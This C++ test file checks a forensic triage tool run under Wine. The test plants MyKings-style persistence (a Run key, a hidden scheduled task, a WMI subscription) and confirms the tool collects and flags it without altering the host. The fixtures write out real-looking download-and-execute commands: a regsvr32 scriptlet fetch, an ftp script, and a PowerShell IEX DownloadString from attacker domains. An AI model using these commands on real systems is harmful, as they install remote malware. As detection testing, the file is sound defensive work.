// minesweep.exe under Wine: the real Windows collector (scripts/build-windows.sh) collects a fresh Wine prefix in
// which a helper process holds a loopback connection, a MyKings task and WMI subscription are planted and a Run key
// is set. The bundle must show the helper and its connection, its registry/task/WMI sections must parse with the
// Windows-evidence parsers, `minesweep scan` must read it cleanly, and the prefix must be unchanged by the run.
//
// Skipped when Wine or the cross-built exe is missing, except in CI, where scripts/setup.sh --dev and
// scripts/build.sh test provide both and their absence is a failure.
#include <signal.h>
#include <spawn.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <thread>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>
#include <sys/wait.h>

#include "core/hash.h"
#include "core/mapped_file.h"
#include "support/bytes.h"
#include "support/test_support.h"
#include "support/wmi_writer.h"

extern char** environ;

namespace msw {
namespace {

namespace fs = std::filesystem;

std::string find_wine() {
  for (const char* p : {"/usr/lib/wine/wine64", "/usr/bin/wine64", "/usr/bin/wine"})
    if (::access(p, X_OK) == 0) return p;
  return {};
}
std::string find_wineserver() {
  for (const char* p : {"/usr/lib/wine/wineserver64", "/usr/lib/wine/wineserver", "/usr/bin/wineserver"})
    if (::access(p, X_OK) == 0) return p;
  return {};
}

// "/tmp/x/y" → "Z:\\tmp\\x\\y": Wine's Z: drive is the Unix root.
std::string z_path(const fs::path& p) {
  std::string out = "Z:";
  for (char c : p.string()) out += c == '/' ? '\\' : c;
  return out;
}

// Every regular file below the prefix with its SHA-256; links (dosdevices) are not followed.
std::map<std::string, std::string> snapshot(const fs::path& root, const fs::path& skip) {
  std::map<std::string, std::string> out;
  for (auto it = fs::recursive_directory_iterator(root); it != fs::recursive_directory_iterator(); ++it) {
    if (it->path() == skip) {
      it.disable_recursion_pending();
      continue;
    }
    if (!it->is_regular_file() || it->is_symlink()) continue;
    auto f = MappedFile::open(it->path().string());
    out[fs::relative(it->path(), root).string()] = f ? sha256_hex(f->bytes()) : "unreadable";
  }
  return out;
}

// Wine's registry file (system.reg, user.reg) as key → its values, the key's timestamps left out.
std::map<std::string, std::string> registry_keys(const fs::path& reg_file) {
  std::map<std::string, std::string> out;
  std::istringstream in(test::read_file(reg_file));
  std::string key;
  for (std::string line; std::getline(in, line);) {
    if (line.starts_with("[")) {
      key = line.substr(0, line.find("] ") + 1);
      out[key];
    } else if (!key.empty() && !line.starts_with("#time=")) {
      out[key] += line + "\n";
    }
  }
  return out;
}

// Keys added, removed or whose values changed between two copies of a registry file. Timestamps alone are not
// compared: Wine's own services touch parent keys' timestamps at times no test controls.
std::set<std::string> changed_keys(const fs::path& before, const fs::path& after) {
  auto a = registry_keys(before), b = registry_keys(after);
  std::set<std::string> out;
  for (const auto& [k, v] : a)
    if (!b.count(k) || b[k] != v) out.insert(k);
  for (const auto& [k, v] : b)
    if (!a.count(k)) out.insert(k);
  return out;
}

TEST(WineTriage, CollectsAWineHostIntoABundleThatScans) {
  const std::string wine = find_wine(), wineserver = find_wineserver();
  const fs::path exe = fs::path(MSW_WINDOWS_BUILD_DIR) / "minesweep.exe";
  const fs::path helper = fs::path(MSW_WINDOWS_BUILD_DIR) / "msw_wine_helper.exe";
  const bool in_ci =
      std::getenv("CI") && std::string(std::getenv("CI")) != "" && std::string(std::getenv("CI")) != "false";
  if (wine.empty() || wineserver.empty() || !fs::exists(exe) || !fs::exists(helper)) {
    if (in_ci)
      FAIL() << "Wine or " << exe << " is missing: scripts/setup.sh --dev and scripts/build.sh test provide them";
    GTEST_SKIP() << "Wine (Debian wine64) or " << exe << " (scripts/build-windows.sh) is missing";
  }
  test::TempDir dir;
  const fs::path prefix = dir / "prefix";
  ::setenv("WINEPREFIX", prefix.c_str(), 1);
  ::setenv("WINEDEBUG", "-all", 1);
  ::setenv("WINEDLLOVERRIDES", "mscoree,mshtml=", 1);  // no Mono or Gecko install prompts
  ::unsetenv("DISPLAY");

  // A fresh prefix that says Windows 10, with what a MyKings host has planted.
  auto boot = test::run({wine, "wineboot", "--init"});
  ASSERT_EQ(boot.exit_code, 0) << boot.err;
  const std::string run_key = "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
  auto reg = test::run({wine, "reg", "add", run_key, "/v", "start", "/d",
                        "regsvr32 /u /s /i:http://js.mykings.top:280/v.sct scrobj.dll", "/f"});
  ASSERT_EQ(reg.exit_code, 0) << reg.err;
  // Every Windows profile has this key; Wine's wintrust creates it on first use, which would read as a write by
  // minesweep.exe (it checks the signatures of images outside Windows' folders).
  reg = test::run({wine, "reg", "add",
                   "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Wintrust\\Trust Providers\\Software Publishing",
                   "/v", "State", "/t", "REG_DWORD", "/d", "0x23c00", "/f"});
  ASSERT_EQ(reg.exit_code, 0) << reg.err;
  const fs::path system32 = prefix / "drive_c/windows/system32";
  test::write_file(system32 / "tasks/Mysa", test::bytes::utf16_file(R"(<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><URI>\Mysa</URI></RegistrationInfo>
  <Triggers><TimeTrigger><StartBoundary>2019-03-04T03:00:00</StartBoundary><Enabled>true</Enabled></TimeTrigger></Triggers>
  <Settings><Hidden>true</Hidden></Settings>
  <Actions Context="Author"><Exec><Command>cmd.exe</Command><Arguments>/c echo open ftp.ftp1202.site&gt;s &amp; ftp -s:s</Arguments></Exec></Actions>
</Task>)"));
  test::write_file(system32 / "wbem/Repository/OBJECTS.DATA",
                   test::write_objects_data(
                       {{"__EventFilter",
                         {"root\\cimv2", "fuckyoumm3",
                          "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                          "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 200",
                          "WQL"}},
                        {"CommandLineEventConsumer",
                         {"cmd /c powershell.exe -nop -c \"IEX (New-Object "
                          "Net.WebClient).DownloadString('http://wmi.mykings.top:8888/test')\"",
                          "fuckyoumm4"}},
                        {"__FilterToConsumerBinding",
                         {"CommandLineEventConsumer.Name=\"fuckyoumm4\"", "__EventFilter.Name=\"fuckyoumm3\""}}}));
  test::run({wineserver, "-w"});  // the registry written out, so the snapshot below is the settled prefix

  // What Wine itself writes whenever a program starts (display, device and font keys): a no-op program's changes,
  // which the read-only check below allows and nothing more.
  const fs::path control = dir / "control";
  for (const char* hive : {"system.reg", "user.reg", "userdef.reg"}) {
    fs::create_directories(control / "before");
    fs::copy_file(prefix / hive, control / "before" / hive);
  }
  test::run({wine, "cmd", "/c", "exit"});
  test::run({wineserver, "-w"});
  std::map<std::string, std::set<std::string>> wine_writes;
  for (const char* hive : {"system.reg", "user.reg", "userdef.reg"}) {
    wine_writes[hive] = changed_keys(control / "before" / hive, prefix / hive);
    fs::create_directories(control / "settled");
    fs::copy_file(prefix / hive, control / "settled" / hive);
  }

  // The helper: a listener on loopback and a connection to it, held open.
  const fs::path ready = dir / "helper.txt";
  pid_t helper_pid = 0;
  {
    std::vector<std::string> args = {wine, helper.string(), z_path(ready)};
    std::vector<char*> argv;
    for (auto& a : args) argv.push_back(a.data());
    argv.push_back(nullptr);
    ASSERT_EQ(posix_spawn(&helper_pid, wine.c_str(), nullptr, nullptr, argv.data(), environ), 0);
  }
  for (int i = 0; i < 600 && !fs::exists(ready); ++i) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  std::istringstream hs(test::read_file(ready));
  uint32_t win_pid = 0, port = 0;
  hs >> win_pid >> port;
  ASSERT_GT(win_pid, 0u) << "the helper did not start";

  const auto before = snapshot(prefix, {});
  const fs::path bundle = dir / "bundle";
  auto triage = test::run({wine, exe.string(), "triage", "--out", z_path(bundle), "--sample-ms", "200", "--zip"});
  test::run({wineserver, "-k"});
  test::run({wineserver, "-w"});
  ::kill(helper_pid, SIGKILL);
  ::waitpid(helper_pid, nullptr, 0);
  ASSERT_EQ(triage.exit_code, 0) << triage.out << triage.err;
  // Its console summary, for the test log (the exe's size and collection time are measured by
  // bench/windows_triage.sh, not here).
  std::printf("%s", triage.out.c_str());

  // Read-only: every file of the prefix is as it was (the bundle lies outside it); in the registry, only the keys
  // Wine rewrites at any program's start changed.
  const auto after = snapshot(prefix, {});
  for (const auto& [path, sha] : before) {
    if (path.ends_with(".reg")) continue;
    auto it = after.find(path);
    EXPECT_TRUE(it != after.end() && it->second == sha) << path << " changed or vanished during the run";
  }
  for (const auto& [path, sha] : after) EXPECT_TRUE(before.count(path)) << path << " appeared during the run";
  for (const char* hive : {"system.reg", "user.reg", "userdef.reg"}) {
    const auto changed = changed_keys(control / "settled" / hive, prefix / hive);
    for (const auto& key : changed)
      EXPECT_TRUE(wine_writes[hive].count(key)) << hive << ": " << key << " was written during the run";
    EXPECT_FALSE(wine_writes[hive].empty() && !changed.empty()) << hive;
  }

  const auto manifest = nlohmann::json::parse(test::read_file(bundle / "manifest.json"));
  EXPECT_EQ(manifest["host"]["platform"], "windows");
  // --zip: every file of the bundle in bundle.zip (the end-of-central-directory record counts them).
  const std::string zip = test::read_file(dir / "bundle.zip");
  size_t files = 0;
  for (const auto& e : fs::recursive_directory_iterator(bundle)) files += e.is_regular_file();
  ASSERT_GT(zip.size(), 22u);
  EXPECT_EQ(zip.substr(0, 4), std::string("PK\x03\x04", 4));
  EXPECT_EQ(static_cast<unsigned char>(zip[zip.size() - 12]) | static_cast<unsigned char>(zip[zip.size() - 11]) << 8,
            static_cast<int>(files));

  // The helper in the process table, its connection in the connection table.
  bool helper_seen = false;
  std::istringstream procs(test::read_file(bundle / "tables/processes.jsonl"));
  for (std::string line; std::getline(procs, line);) {
    const auto j = nlohmann::json::parse(line);
    if (j["pid"] != win_pid) continue;
    helper_seen = true;
    EXPECT_TRUE(j["exe"].get<std::string>().ends_with("msw_wine_helper.exe")) << line;
    EXPECT_NE(j["cmdline"].get<std::string>().find("helper.txt"), std::string::npos) << line;
    EXPECT_FALSE(j["exe_sha256"].get<std::string>().empty()) << line;
  }
  EXPECT_TRUE(helper_seen) << "pid " << win_pid << " is not in tables/processes.jsonl";
  bool listening = false, connected = false;
  std::istringstream conns(test::read_file(bundle / "tables/connections.jsonl"));
  for (std::string line; std::getline(conns, line);) {
    const auto j = nlohmann::json::parse(line);
    // Wine keeps sockets in wineserver, so it reports no owning pid (0); Windows fills it in.
    if (j["pid"] != 0) {
      EXPECT_EQ(j["pid"], win_pid) << line;
    }
    if (j["local_ip"] == "127.0.0.1" && j["local_port"] == port && j["state"] == "LISTEN") listening = true;
    if (j["remote_ip"] == "127.0.0.1" && j["remote_port"] == port && j["state"] == "ESTABLISHED") connected = true;
  }
  EXPECT_TRUE(listening) << "the helper's listener on 127.0.0.1:" << port << " is not in tables/connections.jsonl";
  EXPECT_TRUE(connected) << "the helper's connection to 127.0.0.1:" << port << " is not in tables/connections.jsonl";

  // Scanned anywhere: every registry, task, WMI and table artefact parsed, the planted persistence found.
  const fs::path case_path = dir / "case.sqlite";
  auto scan = test::run({MSW_BINARY, "scan", "--quiet", "--case", case_path.string(), bundle.string()});
  ASSERT_TRUE(scan.exit_code == 0 || scan.exit_code == 1) << scan.err;
  auto report = test::run({MSW_BINARY, "report", case_path.string(), "--format", "json"});
  ASSERT_EQ(report.exit_code, 0) << report.err;
  const auto rep = nlohmann::json::parse(report.out);
  std::set<std::string> parsed_kinds;
  for (const auto& a : rep["artefacts"]) {
    const std::string kind = a["kind"];
    if (kind == "registry_hive" || kind == "scheduled_task" || kind == "wmi_repository" || kind == "process_table" ||
        kind == "connection_table" || kind == "hosts") {
      EXPECT_TRUE(a["parsed"].get<bool>()) << a["path"] << ": " << a["note"];
      if (a["parsed"].get<bool>()) parsed_kinds.insert(kind);
    }
  }
  for (const char* kind : {"registry_hive", "scheduled_task", "wmi_repository", "process_table", "connection_table"})
    EXPECT_TRUE(parsed_kinds.count(kind)) << "no " << kind << " parsed";
  std::set<std::string> cited;
  for (const auto& f : rep["findings"]) {
    for (const auto& e : f["evidence"]) cited.insert(e["path"].get<std::string>());
    // Nothing about the helper or the collector itself: a loopback connection is no finding.
    EXPECT_EQ(f["title_en"].get<std::string>().find("msw_wine_helper"), std::string::npos) << f["title_en"];
    EXPECT_EQ(f["title_en"].get<std::string>().find("minesweep.exe"), std::string::npos) << f["title_en"];
  }
  auto cited_like = [&](std::string_view part) {
    return std::any_of(cited.begin(), cited.end(),
                       [&](const std::string& c) { return c.find(part) != std::string::npos; });
  };
  EXPECT_TRUE(cited_like("config\\SOFTWARE")) << "the Run key in the collected SOFTWARE hive is not cited";
  EXPECT_TRUE(cited_like("Tasks\\Mysa") || cited_like("Tasks/Mysa")) << "the planted task is not cited";
  EXPECT_TRUE(cited_like("OBJECTS.DATA")) << "the planted WMI subscription is not cited";
}

}  // namespace
}  // namespace msw
